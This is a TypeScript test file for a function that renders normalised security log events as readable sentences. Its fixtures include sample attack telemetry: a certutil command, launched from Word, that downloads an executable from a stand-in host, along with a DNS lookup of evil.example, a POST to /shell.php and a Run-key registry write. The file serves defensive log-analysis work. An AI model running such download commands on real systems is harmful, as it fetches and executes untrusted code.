import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { commonFieldNames } from '#engine/events/common-fields.ts';
import { baseName, eventSentence } from './sentence.ts';

const told: readonly (readonly [source: string, common: Record<string, string | number>, sentence: string])[] = [
  [
    'Sysmon process creation',
    {
      'event.category': 'process',
      'host.name': 'ws-07',
      'user.name': 'ada',
      'user.domain': 'CORP',
      'process.executable': 'C:\\Windows\\System32\\certutil.exe',
      'process.command_line': 'certutil -urlcache -f http://x/a.exe',
      'process.parent.executable': 'C:\\Office\\WINWORD.EXE',
      'file.hash.sha256': 'ab',
    },
    'CORP\\ada ran certutil.exe: certutil -urlcache -f http://x/a.exe on ws-07 started by WINWORD.EXE.',
  ],
  [
    'Windows Security, failed logon',
    {
      'event.category': 'authentication',
      'event.outcome': 'failure',
      'user.target.name': 'administrator',
      'host.name': 'dc-1',
      'source.ip': '10.0.0.9',
      'error.code': '0xc000006d',
    },
    'Somebody failed to sign in as administrator to dc-1 from 10.0.0.9 (0xc000006d).',
  ],
  [
    'sshd',
    { 'event.category': 'authentication', 'user.name': 'root', 'host.name': 'web-1', 'source.ip': '203.0.113.4' },
    'root signed in to web-1 from 203.0.113.4.',
  ],
  [
    'Entra sign-in',
    {
      'event.category': 'authentication',
      'event.outcome': 'success',
      'user.name': 'ada@corp.example',
      'service.name': 'Exchange Online',
      'source.ip': '203.0.113.4',
    },
    'ada@corp.example signed in to Exchange Online from 203.0.113.4.',
  ],
  [
    'CloudTrail',
    {
      'event.action': 'CreateAccessKey',
      'event.category': 'iam',
      'event.outcome': 'failure',
      'error.code': 'AccessDenied',
      'user.name': 'deploy',
      'cloud.account.id': '123456789012',
      'cloud.resource.id': 'arn:aws:iam::123456789012:user/eve',
      'source.ip': '198.51.100.7',
    },
    'deploy did CreateAccessKey on arn:aws:iam::123456789012:user/eve in 123456789012 from 198.51.100.7; it failed (AccessDenied).',
  ],
  [
    'Zeek connection',
    { 'source.ip': '10.1.1.1', 'destination.ip': '192.0.2.5', 'destination.port': 445, 'network.protocol': 'smb' },
    '10.1.1.1 connected to 192.0.2.5:445 over smb.',
  ],
  [
    'Sysmon DNS query',
    {
      'event.category': 'network',
      'host.name': 'ws-07',
      'dns.question.name': 'evil.example',
      'process.executable': 'C:\\a\\powershell.exe',
    },
    'powershell.exe on ws-07 asked for the name evil.example.',
  ],
  [
    'web server',
    {
      'source.ip': '203.0.113.4',
      'host.name': 'web-1',
      'http.request.method': 'POST',
      'url.full': '/shell.php',
      'http.response.status_code': 200,
    },
    '203.0.113.4 asked on web-1 for POST /shell.php, answered 200.',
  ],
  [
    'Sysmon registry',
    {
      'host.name': 'ws-07',
      'user.name': 'ada',
      'process.executable': 'C:\\a\\reg.exe',
      'registry.path': 'HKLM\\Run\\x',
    },
    'reg.exe of ada on ws-07 touched the registry at HKLM\\Run\\x.',
  ],
  [
    'Sysmon file',
    { 'host.name': 'ws-07', 'process.executable': '/usr/bin/curl', 'file.path': '/tmp/x' },
    'curl on ws-07 touched the file /tmp/x.',
  ],
  [
    'group change',
    { 'event.action': 'added-member', 'user.name': 'bob', 'user.target.name': 'Domain Admins', 'host.name': 'dc-1' },
    'bob did added-member to Domain Admins on dc-1.',
  ],
  [
    'Okta, a factor reset for somebody, which is no sign-in',
    {
      'event.category': 'authentication',
      'event.action': 'user.mfa.factor.reset_all',
      'user.name': 'it.berg',
      'user.target.name': 'n.vos',
      'source.ip': '198.51.100.20',
    },
    'it.berg did user.mfa.factor.reset_all to n.vos from 198.51.100.20.',
  ],
  [
    'Kerberos ticket, which is no sign-in',
    {
      'event.category': 'authentication',
      'event.action': 'kerberos-service-ticket',
      'user.name': 'ada',
      'host.name': 'dc-1',
    },
    'ada: kerberos-service-ticket on dc-1.',
  ],
  [
    'Windows Security, logon',
    { 'event.category': 'authentication', 'event.action': 'logged-in', 'user.name': 'ada', 'host.name': 'ws-07' },
    'ada signed in to ws-07.',
  ],
  [
    'mail gateway',
    { 'event.action': 'blocked', 'event.provider': 'mail-gateway', 'source.ip': '203.0.113.4' },
    'mail-gateway: blocked from 203.0.113.4.',
  ],
];

for (const [source, common, sentence] of told)
  test(`${source}: who did what, where, to what`, () => assert.equal(eventSentence(common), sentence));

test('an event that says nothing has no sentence', () => {
  assert.equal(eventSentence({}), undefined);
  assert.equal(eventSentence({ 'host.name': 'ws-07' }), undefined);
});

test('a sentence is of bounded length and never says "undefined", whatever the fields', () => {
  const value = fc.oneof(fc.string({ maxLength: 400 }), fc.integer());
  fc.assert(
    fc.property(fc.dictionary(fc.constantFrom(...commonFieldNames), value), (common) => {
      const sentence = eventSentence(common as Record<string, string | number>);
      if (sentence === undefined) return;
      assert.ok(sentence.length < 1000);
      assert.ok(
        !sentence.includes('undefined') || Object.values(common).some((one) => String(one).includes('undefined')),
      );
    }),
  );
});

test('the name at the end of a path of Windows or Unix', () => {
  assert.equal(baseName('C:\\a\\b.exe'), 'b.exe');
  assert.equal(baseName('/usr/bin/curl'), 'curl');
  assert.equal(baseName('plain'), 'plain');
  assert.equal(baseName('/'), '/');
});
